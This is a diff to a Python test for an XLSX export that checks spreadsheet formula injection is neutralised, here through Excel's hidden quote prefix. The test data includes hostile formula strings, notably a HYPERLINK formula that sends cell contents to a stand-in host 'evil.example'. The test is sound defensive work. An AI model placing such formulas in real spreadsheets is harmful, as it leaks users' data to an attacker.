@@ -170,9 +170,13 @@ def test_xlsx_reads_back_neutralised_with_bold_header():
     assert [c.value for c in roster[1]] == ["influencer", "followers", "er", "posted_at"]
     assert all(c.font.bold for c in roster[1])
     assert roster.freeze_panes == "A2"
+    # text as it was written, no formula cell at all, and Excel's hidden quote prefix on what would run as one
+    # (a literal "'" in front showed on every such cell)
     assert [roster.cell(r, 1).value for r in range(2, 8)] == [
-        "bell =1+1", HOSTILE[1], "'@SUM(A1)", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Olivia\")", "-5", "'+1+1"]
-    assert all(roster.cell(r, 1).data_type == "s" for r in range(2, 8))   # no formula cells at all
+        "bell =1+1", HOSTILE[1], "@SUM(A1)", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Olivia\")", "-5", "+1+1"]
+    assert all(roster.cell(r, 1).data_type == "s" for r in range(2, 8))
+    assert [roster.cell(r, 1).quotePrefix for r in range(2, 8)] == [False, neutralise(HOSTILE[1]) != HOSTILE[1],
+                                                                    True, True, False, True]
     assert roster.cell(6, 2).value == -5                 # a negative number stays a number
     assert roster.cell(4, 3).value is None               # NaN -> empty
     assert roster.cell(2, 4).value == dt.datetime(2025, 3, 1, 10, 0)   # wall-clock time, zone dropped
